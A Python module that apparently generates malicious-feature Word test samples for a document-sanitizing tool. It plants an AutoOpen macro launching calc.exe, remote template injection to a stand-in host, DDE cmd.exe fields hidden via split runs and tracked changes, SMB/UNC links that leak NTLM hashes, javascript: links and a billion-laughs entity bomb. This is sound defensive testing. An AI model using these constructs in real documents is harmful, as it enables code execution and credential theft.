"""Word documents, each with one thing that must go (or that policy decides about)."""

# ruff: noqa: E501 - lines of XML and of the table stay whole

from __future__ import annotations

from samples.build._ooxml_word import MAIN, NAMESPACES, W, complex_field, paragraph, run, word
from samples.build._opc import MS, OPEN, PACKAGE, Link, grey_png
from samples.build._vba import vba_project

_MACRO = 'Sub AutoOpen()\r\n    Shell "calc.exe"\r\nEnd Sub\r\n'
_TEXT = paragraph("本文は残る")


def macro() -> bytes:
    """docm with AutoOpen, its data and a changed key."""
    package = word(
        _TEXT,
        Link("rIdVba", f"{MS}2006/relationships/vbaProject", "vbaProject.bin"),
        main="application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    package.add(
        "word/vbaProject.bin",
        "application/vnd.ms-office.vbaProject",
        vba_project({"Module1": _MACRO}),
        Link("rId1", f"{MS}2006/relationships/wordVbaData", "vbaData.xml"),
    )
    wne = f"{MS}word/2006/wordml"
    package.add(
        "word/vbaData.xml",
        "application/vnd.ms-word.vbaData+xml",
        f'<wne:vbaSuppData xmlns:wne="{wne}"><wne:mcds/></wne:vbaSuppData>',
    )
    package.link("word/document.xml", Link("rIdKeys", f"{MS}2006/relationships/keyMapCustomizations", "customizations.xml"))
    keys = f'<wne:tcg xmlns:wne="{wne}"><wne:keymaps><wne:keymap wne:kcmPrimary="0741"><wne:macro wne:macroName="EVIL.MACRO"/></wne:keymap></wne:keymaps></wne:tcg>'
    package.add("word/customizations.xml", "application/vnd.ms-word.keyMapCustomizations+xml", keys)
    return package.build()


def attached_template() -> bytes:
    """Remote template injection (MITRE T1221)."""
    package = word(_TEXT, Link("rIdSettings", "settings", "settings.xml"))
    settings = f'<w:settings {NAMESPACES}><w:attachedTemplate r:id="rId1"/></w:settings>'
    target = "http://192.0.2.7/evil.dotm"
    package.add(
        "word/settings.xml",
        f"{OPEN}wordprocessingml.settings+xml",
        settings,
        Link("rId1", "attachedTemplate", target, external=True),
    )
    return package.build()


_DRAWING = (
    '<w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="{number}" name="図 {number}"/><a:graphic><a:graphicData'
    ' uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="{number}" name="図"/><pic:cNvPicPr/></pic:nvPicPr>'
    '<pic:blipFill><a:blip {reference}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/>'
    '<a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>'
    "</wp:inline></w:drawing></w:r>"
)


def picture(reference: str, number: int = 1) -> str:
    return _DRAWING.format(reference=reference, number=number)


def external_picture() -> bytes:
    """A tracking picture, a frame of another file, and a sub-document over SMB (NTLM hash leak)."""
    reference = 'r:link="rIdPic"'
    body = f'{_TEXT}<w:p>{picture(reference)}</w:p><w:subDoc r:id="rIdSub"/>'
    return word(
        body,
        Link("rIdPic", "image", "https://tracker.example.invalid/pixel.png", external=True),
        Link("rIdSub", "subDocument", "file://192.0.2.7/share/part.docx", external=True),
    ).build()


def links() -> bytes:
    """A kept link beside file:, UNC, javascript: and mhtml: ones."""
    targets = (
        "https://www.city.example.invalid/",
        "file:///C:/Windows/System32/calc.exe",
        "\\\\192.0.2.7\\share\\x.exe",
        "javascript:alert(1)",
        "mhtml:http://192.0.2.7/a.mht",
    )
    body = "".join(
        f'<w:p><w:hyperlink r:id="rIdL{n}"><w:r><w:t>リンク{n}</w:t></w:r></w:hyperlink></w:p>' for n in range(len(targets))
    )
    return word(_TEXT + body, *(Link(f"rIdL{n}", "hyperlink", target, external=True) for n, target in enumerate(targets))).build()


_SEQUENCE = " SEQ 図 \\* ARABIC "


def fields() -> bytes:
    """INCLUDETEXT, INCLUDEPICTURE, MACROBUTTON and LINK beside PAGE and TOC, in simple and complex form."""
    body = (
        _TEXT
        + f"<w:p>{complex_field(' INCLUDETEXT &quot;http://192.0.2.7/a.docx&quot; ', '取り込まれた文')}</w:p>"
        + f"<w:p>{complex_field(' INCLUDEPICTURE &quot;http://192.0.2.7/p.png&quot; ', '図の代わり')}</w:p>"
        + '<w:p><w:fldSimple w:instr=" MACROBUTTON Evil 押す "><w:r><w:t>押す</w:t></w:r></w:fldSimple></w:p>'
        + '<w:p><w:fldSimple w:instr=" LINK Excel.Sheet.12 &quot;\\\\\\\\192.0.2.7\\\\s\\\\b.xlsx&quot; "><w:r><w:t>表の値</w:t></w:r></w:fldSimple></w:p>'
        + f"<w:p>{complex_field(_SEQUENCE, '7')}</w:p>"
    )
    return word(body).build()


def dde() -> bytes:
    """DDEAUTO split over runs, inside QUOTE, and nested as the code of another field (CVE-less technique of 2017)."""
    split = (
        run('<w:fldChar w:fldCharType="begin"/>')
        + run("<w:instrText>DDE</w:instrText>")
        + run("<w:instrText>AUTO c:\\windows\\system32\\cmd.exe</w:instrText>")
        + run('<w:instrText xml:space="preserve"> "/k calc"</w:instrText>')
        + run('<w:fldChar w:fldCharType="separate"/>')
        + run("<w:t>見えている結果</w:t>")
        + run('<w:fldChar w:fldCharType="end"/>')
    )
    nested = (
        run('<w:fldChar w:fldCharType="begin"/>')
        + complex_field(" QUOTE 68 68 69 65 85 84 79 ", "DDEAUTO")
        + run('<w:instrText xml:space="preserve"> c:\\x.exe </w:instrText>')
        + run('<w:fldChar w:fldCharType="separate"/>')
        + run("<w:t>入れ子の結果</w:t>")
        + run('<w:fldChar w:fldCharType="end"/>')
    )
    return word(_TEXT + f"<w:p>{split}</w:p><w:p>{nested}</w:p>").build()


def tracked_dde() -> bytes:
    """A field whose code is harmless as it stands and DDE when the changes are accepted."""
    deleted = '<w:del w:id="1" w:author="x"><w:r><w:delInstrText>PAGE</w:delInstrText></w:r></w:del>'
    inserted = '<w:ins w:id="2" w:author="x"><w:r><w:instrText>DDE cmd "/c calc"</w:instrText></w:r></w:ins>'
    code = run('<w:fldChar w:fldCharType="begin"/>') + deleted + inserted + run('<w:fldChar w:fldCharType="separate"/>')
    end = run("<w:t>3</w:t>") + run('<w:fldChar w:fldCharType="end"/>')
    return word(f"{_TEXT}<w:p>{code}{end}</w:p>").build()


def alt_chunk() -> bytes:
    """A whole HTML document inserted as altChunk."""
    package = word(_TEXT + '<w:altChunk r:id="rIdChunk"/>', Link("rIdChunk", "aFChunk", "chunk.htm"))
    package.add("word/chunk.htm", "text/html", b"<html><script>alert('chunk')</script></html>")
    return package.build()


def ole_object() -> bytes:
    """An OLE package whose picture must stay, and an embedded workbook in the same form."""
    shape = '<v:shape id="_x0000_i1025" style="width:60pt;height:40pt" o:ole=""><v:imagedata r:id="rIdPic"/></v:shape>'
    package_object = f'<w:object>{shape}<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1" r:id="rIdOle"/></w:object>'
    book_object = f'<w:object>{shape.replace("1025", "1026")}<o:OLEObject Type="Embed" ProgID="Excel.Sheet.12" ShapeID="_x0000_i1026" DrawAspect="Content" ObjectID="_2" r:id="rIdBook"/></w:object>'
    package = word(
        _TEXT + f"<w:p>{run(package_object)}</w:p><w:p>{run(book_object)}</w:p>",
        Link("rIdPic", "image", "media/image1.png"),
        Link("rIdOle", "oleObject", "embeddings/oleObject1.bin"),
        Link("rIdBook", "package", "embeddings/book.xlsx"),
    )
    package.add("word/media/image1.png", "", grey_png())
    package.add("word/embeddings/oleObject1.bin", f"{OPEN}oleObject", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 OLE payload of the sample")
    package.add("word/embeddings/book.xlsx", f"{OPEN}spreadsheetml.sheet", b"PK\x03\x04 not a workbook")
    return package.build()


def active_x() -> bytes:
    """A control in the text, with its binary state."""
    shape = '<v:shape id="_x0000_i1025" style="width:60pt;height:20pt"><v:imagedata r:id="rIdPic"/></v:shape>'
    control = f'<w:object>{shape}<w:control r:id="rIdControl" w:name="Button1" w:shapeid="_x0000_i1025"/></w:object>'
    package = word(
        _TEXT + f"<w:p>{run(control)}</w:p>",
        Link("rIdPic", "image", "media/image1.png"),
        Link("rIdControl", "control", "activeX/activeX1.xml"),
    )
    package.add("word/media/image1.png", "", grey_png())
    state = f'<ax:ocx xmlns:ax="{MS}2006/activeX" ax:classid="{{8BD21D10-EC42-11CE-9E0D-00AA006002F3}}" ax:persistence="persistStreamInit"/>'
    package.add(
        "word/activeX/activeX1.xml",
        "application/vnd.ms-office.activeX+xml",
        state,
        Link("rId1", f"{MS}2006/relationships/activeXControlBinary", "activeX1.bin"),
    )
    package.add("word/activeX/activeX1.bin", "application/vnd.ms-office.activeX", b"ActiveX state of the sample")
    return package.build()


def carried_along() -> bytes:
    """Custom XML, printer settings, embedded font, thumbnail, properties and an Office add-in: nothing that a reader sees."""
    package = word(
        _TEXT,
        Link("rIdXml", "customXml", "../customXml/item1.xml"),
        Link("rIdPrinter", "printerSettings", "printerSettings1.bin"),
        Link("rIdFonts", "fontTable", "fontTable.xml"),
    )
    package.add(
        "customXml/item1.xml", "", "<data>add-in data of the sample</data>", Link("rId1", "customXmlProps", "itemProps1.xml")
    )
    package.add(
        "customXml/itemProps1.xml",
        f"{OPEN}customXmlProperties+xml",
        '<ds:datastoreItem xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml"/>',
    )
    package.add("word/printerSettings1.bin", f"{OPEN}wordprocessingml.printerSettings", b"DEVMODE of the sample")
    fonts = f'<w:fonts {NAMESPACES}><w:font w:name="見本"><w:embedRegular r:id="rId1" w:fontKey="{{00000000-0000-0000-0000-000000000000}}"/></w:font></w:fonts>'
    package.add("word/fontTable.xml", f"{OPEN}wordprocessingml.fontTable+xml", fonts, Link("rId1", "font", "fonts/font1.odttf"))
    package.add("word/fonts/font1.odttf", f"{OPEN}obfuscatedFont", b"font program of the sample")
    package.link("", Link("rIdThumb", f"{PACKAGE}metadata/thumbnail", "docProps/thumbnail.png"))
    package.add("docProps/thumbnail.png", "", grey_png())
    package.link("", Link("rIdPanes", f"{MS}2011/relationships/webextensiontaskpanes", "word/webextensions/taskpanes.xml"))
    panes = f'<wetp:taskpanes xmlns:wetp="{MS}webextensions/taskpanes/2010/11"/>'
    package.add("word/webextensions/taskpanes.xml", "application/vnd.ms-office.webextensiontaskpanes+xml", panes)
    return package.build()


def mail_merge() -> bytes:
    """Mail merge from a database."""
    package = word(_TEXT, Link("rIdSettings", "settings", "settings.xml"))
    merge = '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/><w:query w:val="SELECT * FROM a"/><w:dataSource r:id="rId1"/></w:mailMerge>'
    settings = f"<w:settings {NAMESPACES}>{merge}</w:settings>"
    package.add(
        "word/settings.xml",
        f"{OPEN}wordprocessingml.settings+xml",
        settings,
        Link("rId1", "mailMergeSource", "file:///\\\\192.0.2.7\\list.mdb", external=True),
    )
    return package.build()


def hidden_text() -> bytes:
    """Hidden characters between shown ones: kept and told."""
    return word(_TEXT + "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>隠し文字の見本</w:t></w:r></w:p>").build()


def unknown_names() -> bytes:
    """Elements and attributes of nobody's namespace, declared ignorable and not, and an alternative for an unknown program."""
    evil = 'xmlns:e="http://evil.example.invalid/ns"'
    alternate = f'<mc:AlternateContent><mc:Choice {evil} Requires="e"><w:r><w:t>未知の表現</w:t></w:r></mc:Choice><mc:Fallback><w:r><w:t>代替の表現</w:t></w:r></mc:Fallback></mc:AlternateContent>'
    body = _TEXT + f'<w:p {evil} e:onload="run()"><e:script>alert(1)</e:script><w:pPr/>{alternate}</w:p>'
    return word(body).build()


def unknown_part() -> bytes:
    """A part of an unknown kind, one that nothing refers to, and a reference to nothing."""
    package = word(
        _TEXT, Link("rIdOdd", "https://evil.example.invalid/rel", "odd.xml"), Link("rIdGone", "numbering", "numbering.xml")
    )
    package.add("word/odd.xml", "application/x-odd", "<odd/>")
    package.add("word/stray.bin", "application/octet-stream", b"MZ stray bytes of the sample")
    return package.build()


def metafile() -> bytes:
    """An EMF picture (not yet converted: a grey area stands in its place) and a PNG that is none."""
    reference = 'r:embed="rIdEmf"'
    broken = 'r:embed="rIdPng"'
    package = word(
        _TEXT + f"<w:p>{picture(reference)}</w:p><w:p>{picture(broken, 2)}</w:p>",
        Link("rIdEmf", "image", "media/image1.emf"),
        Link("rIdPng", "image", "media/image2.png"),
    )
    package.add("word/media/image1.emf", "", b"\x01\0\0\0" + bytes(36) + b" EMF" + bytes(44))
    package.add("word/media/image2.png", "", b"this is no picture")
    return package.build()


def document_type() -> bytes:
    """Entities that grow (billion laughs), which OOXML does not allow."""
    package = word(_TEXT)
    lines = '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
    text = (
        f'<?xml version="1.0"?>{lines}<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:body></w:document>'
    )
    package.parts["word/document.xml"] = (MAIN, text.encode())
    return package.build()
